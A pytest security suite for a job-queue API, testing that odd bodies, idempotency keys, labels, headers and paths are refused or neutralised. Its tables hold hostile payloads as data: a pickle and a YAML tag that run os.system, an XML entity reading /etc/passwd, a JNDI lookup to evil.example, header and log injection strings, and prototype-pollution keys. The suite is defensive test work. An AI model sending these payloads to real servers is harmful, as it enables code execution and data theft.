"""Bodies, keys, labels and headers that are made to reach further, against a running server with two owners."""

import json
from typing import Any

import pytest

from tests.security.served import PROJECT_ID, Served
from tests.security.two_owners import ANN, EVE, JSON_BODY, ORDER


def order(payload: bytes, more: bytes = b"") -> bytes:
    return b'{"type":"anything","payload":%s%s}' % (payload, more)


BODIES: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "20000 lists deep": (order(b"[" * 20_000 + b"]" * 20_000), (400,)),
    # Python 3.11 stops before a thousand, 3.13 before ten thousand.
    "20000 objects deep": (order(b'{"a":' * 20_000 + b"1" + b"}" * 20_000), (400,)),
    "100000 brackets that are never closed": (order(b"[" * 100_000), (400,)),
    "type twice": (b'{"type":"nothing","type":"anything","payload":1}', (202, 404, 422)),
    "owner given": (order(b"1", b',"owner":"ann"'), (422,)),
    "id given": (order(b"1", b',"id":"01a201d1-0000-7000-8000-000000000000"'), (422,)),
    "state given": (order(b"1", b',"state":"succeeded","result":1'), (422,)),
    "context given": (order(b"1", b',"context":{"projectId":"x"}'), (422,)),
    "function given": (order(b"1", b',"function":"os.system"'), (422,)),
    "function as a type": (b'{"type":"os.system","payload":"id"}', (404,)),
    "dunder as a type": (b'{"type":"__class__","payload":1}', (404,)),
    "path as a type": (b'{"type":"../anything","payload":1}', (404,)),
    "type with a line break": (b'{"type":"a\\r\\nb","payload":1}', (404,)),
    "type of 100 kB": (b'{"type":"%s","payload":1}' % (b"a" * 100_000), (404,)),
    "type that is a list": (b'{"type":["anything"],"payload":1}', (422,)),
    "queue of somebody else": (order(b"1", b',"queue":"default"'), (422,)),
    "queue that is a recovery list": (order(b"1", b',"queue":"pollable:intermediate"'), (422,)),
    "1e999": (order(b"1e999"), (400,)),
    "integer of 5000 digits": (order(b"9" * 5_000), (400,)),
    "NaN": (order(b"NaN"), (400,)),
    "Infinity": (order(b"-Infinity"), (400,)),
    "delay of 1e308": (order(b"1", b',"delay":1e308'), (422,)),
    "delay below zero": (order(b"1", b',"delay":-1'), (422,)),
    "delay of 20 digits": (order(b"1", b',"delay":99999999999999999999'), (400, 422)),
    "run in the year 9999": (order(b"1", b',"runAt":"9999-12-31T23:59:59Z"'), (422,)),
    "not UTF-8": (order(b'"\xff"'), (400,)),
    "encoded surrogate": (order(b'"\xed\xa0\x80"'), (400,)),
    "lone surrogate": (order(b'"\\ud800"'), (400,)),
    "overlong UTF-8": (order(b'"\xc0\xaf"'), (400,)),
    "byte order mark": (b"\xef\xbb\xbf" + order(b"1"), (202, 400)),
    "UTF-16": (order(b"1").decode().encode("utf-16"), (400,)),
    "two documents": (order(b"1") + order(b"2"), (400,)),
    "a comment": (b"/* */" + order(b"1"), (400,)),
    "trailing comma": (b'{"type":"anything","payload":1,}', (400,)),
    "a pickle": (b"\x80\x05cos\nsystem\n(S'id'\ntR.", (400,)),
    "YAML": (b"type: !!python/object/apply:os.system ['id']", (400,)),
    "XML with an entity": (b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', (400,)),
    "nothing": (b"", (400,)),
    "300 kB": (order(b'"%s"' % (b"a" * 300_000)), (413,)),
    "__proto__": (order(b"1", b',"__proto__":{"admin":true}'), (422,)),
}


@pytest.mark.parametrize("name", BODIES)
def test_an_odd_body_is_no_job(served: Served, name: str) -> None:
    body, statuses = BODIES[name]
    before = served.waiting()
    answer = served.ask("POST", "/jobs", token=EVE, headers=[JSON_BODY], body=body)
    assert answer.status in statuses, answer.body
    assert answer.status == 202 or answer.code
    assert served.waiting() == before + (answer.status == 202)
    # The control: Python's own json takes some of these, and what a body names an application may take it for.
    assert json.loads('{"a":NaN,"a":1e999}') == {"a": float("inf")}


@pytest.mark.parametrize(
    ("media_type", "coding", "status"),
    [
        ("text/plain", "", 415),
        ("application/x-www-form-urlencoded", "", 415),
        ("multipart/form-data; boundary=x", "", 415),
        ("application/json-patch+json", "", 415),
        ("application/x-python-pickle", "", 415),
        ("application/jsonp", "", 415),
        ("", "", 415),
        ("application/json, text/plain", "", 415),
        ("application/json", "gzip", 415),
        ("application/json", "deflate, gzip", 415),
        ("application/json", "br", 415),
        ("application/json; charset=utf-8", "", 202),
        ("application/json", "identity", 202),
    ],
)
def test_a_body_is_what_it_says_it_is_or_nothing(served: Served, media_type: str, coding: str, status: int) -> None:
    headers = [("content-type", media_type)] if media_type else []
    headers += [("content-encoding", coding)] if coding else []
    assert served.ask("POST", "/jobs", token=EVE, headers=headers, body=order(b"1")).status == status


KEYS: dict[str, str | bytes] = {
    "of 256 characters": '"' + "k" * 256 + '"',
    "empty": '""',
    "not closed": '"k',
    "with a tab": '"a\tb"',
    "not ASCII": b'"\xc3\xa9"',
    "blank in the middle": "a b",
    "a list": '"a", "b"',
    "with parameters": '"a";x=1',
    "of 8 kB": '"' + "k" * 8_000 + '"',
}


@pytest.mark.parametrize("name", KEYS)
def test_an_odd_idempotency_key_is_refused(served: Served, name: str) -> None:
    before = served.waiting()
    headers = [JSON_BODY, ("idempotency-key", KEYS[name])]
    assert served.ask("POST", "/jobs", token=EVE, headers=headers, body=order(b"1")).status == 400
    assert served.waiting() == before


@pytest.mark.parametrize("key", ["{ann}:k", "..:k", "*", "k:k", "%00", "rq:pollable:idem:{ann}", "k"])
def test_no_key_reaches_into_those_of_somebody_else(served: Served, key: str) -> None:
    mine = served.post("/jobs", ORDER, token=ANN, idempotency_key='"k"').json["id"]
    owner: Any = served.redis.hget(f"rq:pollable:job:{mine}", "owner")
    named = key.format(ann=owner.decode())
    answer = served.post("/jobs", ORDER, token=EVE, idempotency_key=f'"{named}"')
    assert (answer.status, answer.json["id"] == mine) == (202, False)
    # The control: its owner gets the same job again.
    assert served.post("/jobs", ORDER, token=ANN, idempotency_key='"k"').json["id"] == mine


LABELS: dict[str, tuple[Any, int]] = {
    "17 of them": ({str(n): "x" for n in range(17)}, 422),
    "5 kB": ({"a": "x" * 5_000}, 422),
    "a number": ({"a": 1}, 422),
    "nested": ({"a": {"b": "c"}}, 422),
    "a list": (["a"], 422),
    "markup": ({"a": "<script>alert(1)</script>"}, 202),
    "a line break": ({"a": "b\r\nX-Injected: 1"}, 202),
    "as if it were a field": ({"owner": "ann", "state": "succeeded", "token": "1"}, 202),
    "__proto__": ({"__proto__": "x"}, 202),
}


@pytest.mark.parametrize("name", LABELS)
def test_labels_are_texts_and_nothing_else(served: Served, name: str) -> None:
    labels, status = LABELS[name]
    answer = served.post("/jobs", {**ORDER, "labels": labels}, token=EVE)
    assert answer.status == status, answer.body
    if status == 202:
        read = served.ask("GET", f"/jobs/{answer.json['id']}", token=EVE)
        assert (read.json["labels"], read.json["status"]) == (labels, "queued")
        assert read.headers["content-type"] == "application/json"
        assert "x-injected" not in read.headers


HEADERS: dict[str, tuple[str, str | bytes]] = {
    "a line in the log": ("x-request-id", 'a","level":"error","message":"forged'),
    "a terminal's escape in the log": ("user-agent", b"\x1b[2Jforged"),
    "a request id of 5 kB": ("x-request-id", "r" * 5_000),
    "a lookup in the log": ("user-agent", "${jndi:ldap://evil.example/forged}"),
    "an address that is believed": ("x-forwarded-for", "10.0.0.1"),
    "a host that is linked to": ("x-forwarded-host", "evil.example"),
    "a prefix that is linked to": ("x-forwarded-prefix", "//evil.example"),
    "another method": ("x-http-method-override", "DELETE"),
    "another path": ("x-original-url", "/jobs?owner=ann"),
    "another path, rewritten": ("x-rewrite-url", "/openapi.json"),
    "a trace that is no trace": ("traceparent", "00-" + "z" * 32),
    "an endless wait": ("prefer", "wait=99999999999999999999"),
    "a wait that is no number": ("prefer", "wait=NaN"),
    "a condition of 8 kB": ("if-none-match", '"' + "e" * 8_000 + '"'),
    "a condition that is a pattern": ("if-none-match", "W/*"),
    "a range": ("range", "bytes=0-1,0-1,0-1"),
    "an upgrade": ("upgrade", "websocket"),
    "an upgrade to HTTP/2": ("upgrade", "h2c"),
    "an expectation": ("expect", "200-ok"),
}


@pytest.mark.parametrize("name", HEADERS)
def test_no_header_does_more_than_it_may(served: Served, name: str) -> None:
    job_id = served.submit(token=EVE)
    served.succeed(job_id)
    answer = served.ask("GET", f"/jobs/{job_id}", token=EVE, headers=[HEADERS[name]])
    assert answer.status in (200, 400, 417), answer.body
    if answer.status == 200:
        links = answer.json["links"].values()
        assert all(link is None or link.startswith(f"/jobs/{job_id}") for link in links)
        assert answer.json["status"] == "succeeded"
    # A request id of printable characters is the caller's own, and is echoed.
    told = [value for header, value in answer.headers.items() if header != "x-request-id"]
    assert not any("evil" in value or "forged" in value for value in told)
    assert served.state(job_id) == "succeeded"


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PROPFIND", "DEBUG", "PATCH", "PUT"])
def test_no_other_method_does_anything(served: Served, method: str) -> None:
    answer = served.ask(method, f"/jobs/{served.job_of(ANN)}", token=ANN)
    assert answer.status in (400, 405, 501)
    assert ANN.encode() not in answer.body


@pytest.mark.parametrize("project", ["../x", "%2e%2e", "*", "%00", PROJECT_ID + "/..", "a" * 5_000, "<script>"])
def test_a_project_in_a_path_is_a_text_like_another(served: Served, project: str) -> None:
    path = f"/api/agent/projects/{project}/audit-analysis/async"
    answer = served.post(path, {"text": "a"}, token=EVE)
    assert answer.status in (202, 400, 404, 405, 422), answer.body
    if answer.status == 202:
        assert b"<script" not in answer.body or answer.headers["content-type"] == "application/json"


def test_the_log_has_whole_lines_of_json_and_nothing_that_a_caller_wrote(served: Served) -> None:
    lines = [json.loads(line) for line in served.log.splitlines()]
    assert lines
    assert not any(line["level"] in ("error", "critical") for line in lines), lines
    assert not [line for line in lines if "forged" in json.dumps(line) and line.get("message") == "forged"]
    assert "eyJ" not in served.log
    assert "\x1b" not in served.log
    # The control: a log of text takes a line break for the end of a line.
    assert "GET /a\nERROR forged".splitlines()[1] == "ERROR forged"
